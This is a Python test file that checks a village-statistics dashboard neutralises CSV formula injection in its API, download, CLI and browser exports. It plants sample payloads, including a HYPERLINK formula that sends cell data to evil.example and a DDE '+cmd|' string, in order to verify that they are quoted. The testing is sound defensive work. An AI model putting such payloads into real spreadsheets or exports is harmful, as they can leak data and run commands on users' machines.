"""Issue 10: CSV formula injection. Labels a village sends (`=HYPERLINK(...)`, `+cmd|...`,
`@SUM(...)`, a leading tab) come out of every CSV as inert text (a leading single quote, as
OWASP says), in the API's CSVs, the pages' "Unduh CSV", the Unduh page and `dasbor export`,
while numbers stay numbers. The villages are fake ones on loopback, pulled by a real sweep."""

from __future__ import annotations

import copy
import csv
import io
import time

import pandas as pd
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from collectors.sweep import run_sweep
from config.settings import Settings
from dashboard.app import create_app
from layouts.safe_cells import csv_text, neutralise, neutralise_frame
from simulator.http import Reply
from tests.browser_support import (
    assert_no_console_errors,
    click,
    requires_chromium,
    serve_app,
    wait_for,
)
from tests.conftest import pointed_at
from tests.fake_village import FakeVillage, Seen, json_answer
from tests.test_dashboard_callbacks import DashClient

KERKAP = "17.03.06"
SETTINGS = Settings(concurrency=4, connect_timeout=2, read_timeout=5, retries=0, tahun=2026)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(A1:A9)"
TAB = "\t=1+1"
MINUS = "-2+3+cmd|' /C calc'!A0"
PLANTED = (HYPERLINK, CMD, SUM, TAB, MINUS)
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


def test_the_rule_itself():
    assert [neutralise(v) for v in PLANTED] == ["'" + v for v in PLANTED]
    # numbers, text that is a plain number, gaps and harmless text are left alone
    for value in (-12, -1.5, 0, "-12", "+3.5", "-1e3", None, "ISLAM", "RT - / RW 001", ""):
        assert neutralise(value) == value
    frame = pd.DataFrame(
        {
            "label": pd.Series([HYPERLINK, "ISLAM", None], dtype="str"),
            "obj": [SUM, 5, "-7"],
            "selisih": [-3, 0, 12],  # a negative number column stays a number
            "persen": [-0.5, 1.25, float("nan")],
            "kat": pd.Categorical([CMD, "B", CMD]),
        }
    )
    safe = neutralise_frame(frame)
    assert safe["label"].tolist()[:2] == ["'" + HYPERLINK, "ISLAM"] and pd.isna(safe["label"][2])
    assert safe["obj"].tolist() == ["'" + SUM, 5, "-7"]
    assert safe["selisih"].dtype == frame["selisih"].dtype and safe["selisih"].tolist() == [
        -3,
        0,
        12,
    ]
    assert safe["persen"].dtype == frame["persen"].dtype
    assert safe["kat"].tolist() == ["'" + CMD, "B", "'" + CMD]
    assert frame["label"][0] == HYPERLINK  # the frame itself is not changed
    lines = csv_text(frame).splitlines()
    assert lines[0] == "label,obj,selisih,persen,kat"
    assert _cells(csv_text(frame))[1][2:4] == ["-3", "-0.5"]


def _cli_url(store) -> str:
    """The warehouse's URL for the CLI; on PostgreSQL with the test's own schema."""
    url = store.engine.url
    if url.get_backend_name() != "postgresql":
        return url.render_as_string(False)
    with store.engine.connect() as conn:
        schema = conn.execute(sa.text("select current_schema()")).scalar_one()
    return url.update_query_dict({"options": f"-csearch_path={schema}"}).render_as_string(False)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(text: str, where: str, *, planted: tuple[str, ...]) -> None:
    """No cell of the CSV would run in a spreadsheet, and each planted label is there, quoted."""
    for row in _cells(text):
        for cell in row:
            runs = cell.startswith(RUNNABLE) and neutralise(cell) != cell
            assert not runs, f"{where}: {cell!r} would run as a formula"
    for label in planted:
        shown = "'" + label.split('"')[0]
        assert shown in text, f"{where}: {label!r} missing or not quoted:\n{text[:3000]}"


def _plant(store, simulator, default_villages):
    """Two Kerkap desa, pulled into `store`, the first with formulas for its agama labels,
    aid programme, project name and executor; returns (store, that village)."""
    villages = [v for v in default_villages if v.kode_kecamatan == KERKAP and v.kode_desa[9] == "2"]
    a, b = villages[:2]

    def answer(seen: Seen) -> Reply | None:
        digits = seen.path.split("/")[1]
        doc = copy.deepcopy(simulator.document(digits, int(seen.query["tahun"]))[0])
        if digits == a.kode_digits:
            stats = {s["slug"]: s for s in doc["statistics"]}
            for row, label in zip(stats["agama"]["rows"], (HYPERLINK, CMD, SUM, TAB), strict=False):
                row["label"] = label
            doc["bantuan"][0]["nama"] = MINUS
            doc["pembangunan"][0]["judul"] = HYPERLINK
            doc["pembangunan"][0]["pelaksana"] = SUM
        return json_answer(doc, headers={"ETag": f'"{digits}"'})

    with FakeVillage(answer) as fake:
        summary = run_sweep(pointed_at([a, b], fake.url), store, SETTINGS)
    assert summary.count("failed") == 0, summary.failed
    return store, a


@pytest.fixture
def planted(store, simulator, default_villages):
    return _plant(store, simulator, default_villages)


def test_every_csv_path_neutralises_formulas(planted, tmp_path, monkeypatch):
    store, village = planted
    # the collector strips the labels it stores: the tab goes, the formula after it stays
    desa, stats_labels = village.kode_desa, (HYPERLINK, CMD, SUM, TAB.strip())
    client = DashClient(create_app(store, Settings(mode="demo")))
    http = client.http
    # the API's CSVs (the page grids' twins included)
    api = {
        f"/api/v1/statistik/agama.csv?wilayah={desa}": stats_labels,
        f"/api/v1/halaman/kependudukan/statistik.csv?wilayah={desa}&statistik=agama": stats_labels,
        f"/api/v1/halaman/bantuan/penerima.csv?wilayah={desa}": (MINUS,),
        f"/api/v1/halaman/desa/bantuan.csv?wilayah={desa}": (MINUS,),
        f"/api/v1/halaman/desa/pembangunan.csv?wilayah={desa}": (HYPERLINK, SUM),
        f"/api/v1/halaman/desa/statistik.csv?wilayah={desa}": stats_labels,
    }
    for path, labels in api.items():
        resp = http.get(path)
        assert resp.status_code == 200, (path, resp.get_data(as_text=True)[:300])
        _assert_inert(resp.get_data(as_text=True), path, planted=labels)
    # "Unduh CSV" of the Kependudukan page and the Unduh page (their download callbacks)
    sent = client.call(
        "kpd-download.data",
        {"kpd-unduh.n_clicks": 1},
        {"kpd-kecamatan.value": KERKAP, "kpd-desa.value": desa, "kpd-statistik.value": "agama"},
    )
    _assert_inert(sent["kpd-download"]["data"]["content"], "kpd-download", planted=stats_labels)
    sent = client.call(
        "unduh-download.data",
        {"unduh-tombol.n_clicks": 1},
        {
            "unduh-kecamatan.value": KERKAP,
            "unduh-desa.value": desa,
            "unduh-data.value": "statistik/agama",
            "unduh-tingkat.value": "desa",
            "unduh-periode.value": None,
        },
    )
    _assert_inert(sent["unduh-download"]["data"]["content"], "unduh", planted=stats_labels)
    # dasbor export
    from dashboard.cli import main

    out_file = tmp_path / "agama.csv"
    monkeypatch.setenv("DASBOR_DATABASE_URL", _cli_url(store))
    args = [
        "export",
        "--statistik",
        "agama",
        "--tingkat",
        "desa",
        "--kode",
        desa,
        "-o",
        str(out_file),
    ]
    result = CliRunner().invoke(main, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    exported = out_file.read_text()
    _assert_inert(exported, "dasbor export", planted=stats_labels)
    # numbers stay numbers: the counts read back as integers, the same as the API's JSON
    frame = pd.read_csv(io.StringIO(exported))
    assert pd.api.types.is_integer_dtype(frame["jumlah"])
    rows = http.get(f"/api/v1/statistik/agama?wilayah={desa}").get_json()["rows"]
    assert sorted(frame["jumlah"].tolist()) == sorted(r["jumlah"] for r in rows)


@pytest.mark.browser
@requires_chromium
def test_csv_as_shown_neutralises_formulas(sqlite_store, simulator, default_villages, browser,
                                           downloads):  # fmt: skip
    """ "CSV seperti tampil" is built in the browser (assets/gridExport.js): the same rule."""
    from selenium.webdriver.common.by import By

    store, village = _plant(sqlite_store, simulator, default_villages)
    with serve_app(create_app(store, Settings(mode="demo"))) as url:
        browser.get(f"{url}/kependudukan?wilayah={village.kode_desa}&statistik=agama")
        link = wait_for(
            browser,
            lambda d: d.find_element(By.CSS_SELECTOR, "[data-grid-export='kpd-grid']"),
            "link",
        )
        wait_for(browser, lambda d: "SUM(A1" in d.find_element(By.ID, "kpd-grid").text, "rows")
        click(browser, link)
        found = wait_for(
            browser, lambda d: [p for p in downloads.glob("*.csv") if p.stat().st_size], "CSV"
        )
        time.sleep(0.2)  # let Chromium finish writing
        text = found[0].read_text(encoding="utf-8-sig")
    _assert_inert(text, "CSV seperti tampil", planted=(HYPERLINK, CMD, SUM, TAB.strip()))
    frame = pd.read_csv(io.StringIO(text))
    assert pd.api.types.is_integer_dtype(frame["jumlah"])  # numbers stay numbers
    assert_no_console_errors(browser)
